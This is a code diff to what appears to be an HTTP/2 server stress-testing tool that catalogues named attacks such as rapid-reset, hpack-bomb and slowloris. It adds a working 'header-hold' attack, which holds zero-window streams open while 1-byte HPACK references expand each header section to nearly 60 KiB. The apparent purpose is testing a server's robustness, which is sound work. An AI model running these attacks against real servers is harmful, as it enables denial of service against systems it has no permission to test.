@@ -22,6 +22,10 @@ client beside it), not the attacker. NAMEs:
                 frames that each demand an ACK, never reading the ACKs
   hpack-bomb    a 4 KB header in the dynamic table referenced by 1-byte
                 indexes (a 16 KB block that decodes to 64 MB)
+  header-hold   like zero-window (window 0, --streams requests for --path
+                held open), each request's headers and trailers decoding
+                to just under 60 KiB from a few wire bytes (a 4 KB header in
+                the dynamic table referenced by 1-byte indexes)
   slowloris     --conns connections trickling the preface or a header block
                 one byte at a time
   invalid       a catalogue of protocol violations, each on a new connection
@@ -152,6 +156,39 @@ def hpack_bomb(args):
         return b"".join(frames)
 
     reconnecting_flood(args, "hpack-bomb", opening([(wire.SETTINGS_HEADER_TABLE_SIZE, 4096)]), batch)
+
+
+BOMB_VALUE = "b" * 4000
+BOMB_FIELD = len("x-bomb") + len(BOMB_VALUE) + 32  # what a field costs a decoder (RFC 7541 4.1)
+
+
+def bomb_refs(budget):
+    """1-byte references to dynamic-table entry 62 (the newest: x-bomb)
+    decoding to at most |budget| bytes."""
+    return wire.indexed(62) * (budget // BOMB_FIELD)
+
+
+def header_hold(args):
+    list_max = 60 * 1024  # wisp's default --max-header-list-size: each section stays under it
+    block = wire.request_block(args.path)
+    seed = wire.literal_new_name("x-bomb", BOMB_VALUE, indexed=True)  # first request: into the table
+    frames = []
+    for k, sid in enumerate(range(1, 2 * args.streams, 2)):
+        head = block + (seed if k == 0 else b"") + bomb_refs(list_max - BOMB_FIELD - 200)
+        frames.append(wire.headers(sid, head, end_stream=False))
+        frames.append(wire.headers(sid, bomb_refs(list_max - 100), end_stream=True))  # trailers
+    first = opening([(wire.SETTINGS_INITIAL_WINDOW_SIZE, 0)]) + b"".join(frames)
+    socks, refused, dl = open_many(args, None)
+    readers = []
+    for s in socks:
+        rd = wire.Reader()
+        wire.send_some(s, first, min(2.0, max(0.0, dl.left())))
+        wire.drain(s, rd)
+        readers.append(rd)
+    closed, alive = hold_open(socks, dl)
+    report("header-hold", conns=len(socks), streams=len(socks) * args.streams, wire_bytes=len(first),
+           decoded_per_stream=2 * list_max, refused=refused, resets_seen=sum(r.resets for r in readers),
+           closed_by_peer=closed, alive_at_end=alive)
 
 
 def open_many(args, first, tls=None):
@@ -312,7 +349,7 @@ def invalid(args):
 ATTACKS = {
     "rapid-reset": rapid_reset, "hold": hold, "zero-window": zero_window, "idle": idle,
     "continuation": continuation, "settings-flood": settings_flood, "ping-flood": ping_flood,
-    "hpack-bomb": hpack_bomb, "slowloris": slowloris, "invalid": invalid,
+    "hpack-bomb": hpack_bomb, "slowloris": slowloris, "invalid": invalid, "header-hold": header_hold,
 }
 
 
